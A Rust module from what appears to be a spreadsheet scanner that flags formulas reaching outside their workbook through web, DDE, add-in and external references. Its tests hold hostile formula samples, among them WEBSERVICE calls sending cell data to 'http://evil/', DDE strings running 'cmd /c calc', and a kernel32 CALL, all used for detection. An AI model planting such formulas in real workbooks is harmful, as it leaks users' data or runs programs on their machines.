//! The reach of a formula: what it asks or opens outside its workbook when it is calculated or clicked.

use std::collections::BTreeSet;

use crate::{
    book::Workbook,
    formula::{FormulaToken, Word, tokens},
    relations::relations,
    xml::{self, Token as Xml, Xml as Reader},
};

/// Functions that send or fetch something, or run something, in Excel, LibreOffice or Google Sheets; in order.
/// `HYPERLINK` does so when a person clicks it, and only with an address that leads outside.
const REQUESTS: [&str; 37] = [
    "AI", "CALL", "COPILOT", "CUBEKPIMEMBER", "CUBEMEMBER", "CUBEMEMBERPROPERTY",
    "CUBERANKEDMEMBER", "CUBESET", "CUBESETCOUNT", "CUBEVALUE", "DDE", "DETECTLANGUAGE", "EXEC",
    "EXECUTE", "GOOGLEFINANCE", "GOOGLETRANSLATE", "HYPERLINK", "IMAGE", "IMPORTCSV", "IMPORTDATA",
    "IMPORTFEED", "IMPORTHTML", "IMPORTRANGE", "IMPORTTEXT", "IMPORTXML", "INITIATE", "MSQUERY",
    "POKE", "PY", "REGISTER", "REGISTER.ID", "REQUEST", "RTD", "SQL.REQUEST", "STOCKHISTORY",
    "TRANSLATE", "WEBSERVICE",
];

/// Marks that files put before names of functions.
const MARKS: [&str; 5] = [
    "_xlfn.", "_xlws.", "_xludf.", "com.microsoft.", FUNCTION_VALUE,
];

/// The mark of a function that is given to another one and not called here.
const FUNCTION_VALUE: &str = "_xleta.";

/// The mark of a function of an add-in, which may do anything.
const ADD_IN: &str = "_xll.";

/// How often names that use names are followed.
const ROUNDS: usize = 64;

/// Longer addresses are cut where they are listed; the formula shows them whole.
const ADDRESS: usize = 300;

/// The names of a workbook that formulas may use.
pub(super) struct Scope {
    sheets: BTreeSet<String>,
    /// All defined names.
    names: BTreeSet<String>,
    /// Those that reach outside.
    outward: BTreeSet<String>,
    /// The workbooks that formulas call by a number, from 1.
    books: Vec<String>,
}

impl Scope {
    pub(super) fn of(book: &Workbook) -> Self {
        let lower = |text: &str| text.to_lowercase();
        let mut scope = Self {
            sheets: book.sheets.iter().map(|it| lower(&it.name)).collect(),
            names: book.names.iter().map(|it| lower(&it.name)).collect(),
            outward: BTreeSet::new(),
            books: books(book),
        };
        for _ in 0..ROUNDS {
            let found: Vec<String> = book
                .names
                .iter()
                .filter(|it| !scope.outward.contains(&lower(&it.name)))
                .filter(|it| !scope.reach(&it.refers_to).is_empty())
                .map(|it| lower(&it.name))
                .collect();
            if found.is_empty() {
                break;
            }
            scope.outward.extend(found);
        }
        scope
    }

    /// Where a formula reaches; nowhere if it stays in its workbook.
    pub(super) fn reach(&self, formula: &str) -> BTreeSet<String> {
        let mut all = Vec::new();
        tokens(formula, |token| all.push(token));
        let mut found = BTreeSet::new();
        for (at, token) in all.iter().enumerate() {
            let next = all.get(at + 1..).unwrap_or_default();
            let reached = match token {
                FormulaToken::Word(Word::Function(name) | Word::Other(name)) => {
                    self.called(name, next, &all)
                }
                FormulaToken::Word(_) | FormulaToken::Text(_) => None,
                FormulaToken::Sheet(name) => self.sheet(name),
                FormulaToken::Book(name) => self.book(name),
                // No operator: it stands between a program and what is asked of it.
                FormulaToken::Mark('|') => Some("another program (DDE)".to_owned()),
                FormulaToken::Mark(_) => None,
            };
            found.extend(reached);
        }
        found
    }

    fn called(
        &self,
        name: &str,
        next: &[FormulaToken<'_>],
        all: &[FormulaToken<'_>],
    ) -> Option<String> {
        let lower = name.to_lowercase();
        if lower.contains(ADD_IN) {
            return Some(format!("the add-in function {name}"));
        }
        let mut plain = lower.as_str();
        while let Some(rest) = MARKS.iter().find_map(|mark| plain.strip_prefix(mark)) {
            plain = rest;
        }
        let plain = plain.to_uppercase();
        let mut next_marks = next
            .iter()
            .skip_while(|it| matches!(it, FormulaToken::Mark(c) if c.is_whitespace()));
        let is_called = matches!(next_marks.next(), Some(FormulaToken::Mark('(')));
        // A name that is spelled like a function does not hide a call of it. Without a call, a word that is no name is
        // the function itself, handed to another one.
        let is_function =
            is_called || lower.contains(FUNCTION_VALUE) || !self.names.contains(&lower);
        if is_function && plain == "INDIRECT" {
            let mut file = texts(all).filter(|text| names_file(text));
            return file
                .next()
                .map(|file| format!("INDIRECT to {}", cut(&file)));
        }
        if !is_function || REQUESTS.binary_search(&plain.as_str()).is_err() {
            let is_outward = self.outward.contains(&lower);
            return is_outward.then(|| format!("the name {name}, which reaches outside"));
        }
        if plain == "HYPERLINK" {
            let Some(address) = literal(next) else {
                return Some("HYPERLINK to a computed address".to_owned());
            };
            return is_outward_address(&address).then(|| format!("HYPERLINK to {}", cut(&address)));
        }
        let addresses: Vec<String> = texts(all)
            .filter(|text| text.contains("://") || text.starts_with(r"\\"))
            .map(|text| cut(&text))
            .collect();
        Some(match addresses.is_empty() {
            true => format!("{plain} to a computed address"),
            false => format!("{plain} to {}", addresses.join(", ")),
        })
    }

    /// A prefix that is no sheet of the workbook, nor a span of them, is a file or a program.
    fn sheet(&self, written: &str) -> Option<String> {
        let name = match written.starts_with('\'') {
            true => unquoted(written, '\''),
            false => written.to_owned(),
        };
        let has = |name: &str| self.sheets.contains(&name.to_lowercase());
        let is_span = |name: &str| {
            let ends = name.split_once(':');
            ends.is_some_and(|(first, last)| has(first) && has(last))
        };
        if has(&name) || is_span(&name) {
            return None;
        }
        if let Some((number, rest)) = name.strip_prefix('[').and_then(|it| it.split_once(']'))
            && number.bytes().all(|it| it.is_ascii_digit())
        {
            return match number {
                "0" if has(rest) || is_span(rest) => None,
                number => self.book(number),
            };
        }
        Some(format!("{}, which is no sheet of the workbook", cut(&name)))
    }

    fn book(&self, name: &str) -> Option<String> {
        match name.parse::<usize>() {
            // Its own workbook.
            Ok(0) => None,
            Ok(number) => Some(match self.books.get(number - 1) {
                Some(target) => format!("the workbook {}", cut(target)),
                None => format!("the workbook with number {number}"),
            }),
            Err(_) => Some(format!("the workbook {}", cut(name))),
        }
    }
}

/// Whether an address leads outside the workbook without a further act of a person. A letter is one that a person sends.
pub(super) fn is_outward_address(address: &str) -> bool {
    let lower = address.trim().to_lowercase();
    let is_inside = lower.starts_with('#') && !lower.contains(['[', '\\', '/']);
    !(lower.is_empty() || is_inside || lower.starts_with("mailto:"))
}

/// The texts of a formula.
fn texts<'a>(all: &'a [FormulaToken<'a>]) -> impl Iterator<Item = String> + 'a {
    all.iter().filter_map(|token| match token {
        FormulaToken::Text(text) => Some(unquoted(text, '"')),
        _ => None,
    })
}

/// Whether a reference that is made of text names another file, which LibreOffice opens.
fn names_file(text: &str) -> bool {
    let inner = text.trim_start_matches('\'');
    inner.contains("://") || inner.contains('\\') || inner.starts_with('[')
}

/// The first argument of a call, if it is one text and nothing else.
fn literal(next: &[FormulaToken<'_>]) -> Option<String> {
    let mut next = next
        .iter()
        .filter(|it| !matches!(it, FormulaToken::Mark(c) if c.is_whitespace()));
    match (next.next(), next.next(), next.next()) {
        (
            Some(FormulaToken::Mark('(')),
            Some(FormulaToken::Text(text)),
            Some(FormulaToken::Mark(',' | ')')),
        ) => Some(unquoted(text, '"')),
        _ => None,
    }
}

fn unquoted(text: &str, quote: char) -> String {
    let inner = text.strip_prefix(quote).unwrap_or(text);
    let inner = inner.strip_suffix(quote).unwrap_or(inner);
    inner.replace(&format!("{quote}{quote}"), &quote.to_string())
}

fn cut(address: &str) -> String {
    let end = address.floor_char_boundary(ADDRESS);
    match address.get(..end) {
        Some(shown) if end < address.len() => format!("{shown}…"),
        _ => address.to_owned(),
    }
}

/// The workbooks that formulas call by a number, in their order. One that cannot be read has no address.
fn books(book: &Workbook) -> Vec<String> {
    let part = &book.parts.workbook;
    let read = || {
        let bytes = book.package.part(part).ok()??;
        let text = xml::decode(part, &bytes).ok()?;
        let related = relations(&book.package, part).ok()?;
        let mut reader = Reader::new(part, &text);
        let mut found = Vec::new();
        while let Some(token) = reader.next().ok()? {
            let (Xml::Open(tag) | Xml::Empty(tag)) = token else {
                continue;
            };
            if tag.local() == "externalReference" {
                let id = tag.get("id").unwrap_or_default();
                let link = related.iter().find(|it| it.id == id);
                let link = link.map_or("", |it| it.target.as_str());
                let target = relations(&book.package, link).unwrap_or_default();
                let target = target.into_iter().find(|it| it.is_external);
                found.push(target.map_or_else(|| link.to_owned(), |it| it.target));
            }
        }
        Some(found)
    };
    read().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reach(formula: &str) -> Vec<String> {
        let book = Workbook::empty().unwrap();
        Scope::of(&book).reach(formula).into_iter().collect()
    }

    #[test]
    fn functions_are_in_order() {
        assert!(REQUESTS.is_sorted());
    }

    #[test]
    fn what_formulas_ask_of_others_is_found() {
        for formula in [
            "WEBSERVICE(\"http://evil/?\"&A1)",
            "_xlfn.WEBSERVICE(A1)",
            "FILTERXML(webservice(A1),\"//x\")",
            "_xlfn.IMAGE(\"https://evil/p.png\")",
            "MAP(A1:A3,_xleta.WEBSERVICE)",
            "WEBSERVICE (A1)",
            "cmd|'/c calc'!A0",
            "'cmd'|'/c calc'!A0",
            "'cmd|/c calc'!A0",
            "[1]Sheet1!A1",
            "[1]!'!A0'",
            "'[book.xlsx]S'!A1",
            "[book.xlsx]S!A1",
            r"'\\host\share\[b.xlsx]S'!A1",
            r"\\host\share\[b.xlsx]S!A1",
            r"\\host\share!A1",
            "'http://evil/b.xlsx'!Name",
            "HYPERLINK(\"http://evil\",\"x\")",
            "HYPERLINK(A1)",
            "HYPERLINK(\"http://evil?\"&A1,\"x\")",
            "HYPERLINK(\"#\"&A1)",
            "HYPERLINK(\"file:///c:/x\")",
            "RTD(\"a\",,\"b\")",
            "STOCKHISTORY(\"MSFT\",1)",
            "_xll.BQL(A2)",
            "AI(A2)",
            "MSQUERY(\"x\")",
            "INDIRECT(\"'http://evil/\"&A2&\"'#$S.A1\")",
            "INDIRECT(\"'[b.xlsx]S'!A1\")",
            "IF(TRUE,1,CALL(\"kernel32\",\"x\",\"J\"))",
        ] {
            assert!(!reach(formula).is_empty(), "{formula}");
        }
        assert_eq!(
            reach("WEBSERVICE(\"http://evil/?q=\"&A1)"),
            ["WEBSERVICE to http://evil/?q="]
        );
    }

    #[test]
    fn what_stays_in_the_workbook_is_not_asked_about() {
        for formula in [
            "SUM(A1:B2)",
            "\"WEBSERVICE(\"\"http://evil\"\")\"&A1",
            "ENCODEURL(A1)",
            "FILTERXML(A1,\"//x\")",
            "Sheet!A1+'sheet'!B2",
            "SUM('Sheet:Sheet'!A1)",
            "'[0]Sheet'!A1",
            "[0]!Rate",
            "Table1[[#All],[cmd|x]]",
            "[@[a|b]]",
            "HYPERLINK(\"#Sheet!A1\",\"there\")",
            "HYPERLINK(\"mailto:ann@example.org\")",
            "A1&\"|\"&B1",
            "IF(A1=\"http://x\",1,2)",
            "Rate*2",
            "INDIRECT(\"Table1[Units]\")",
            "INDIRECT(\"'\"&A1&\"'!B\"&ROW())",
        ] {
            assert_eq!(reach(formula), Vec::<String>::new(), "{formula}");
        }
    }
}
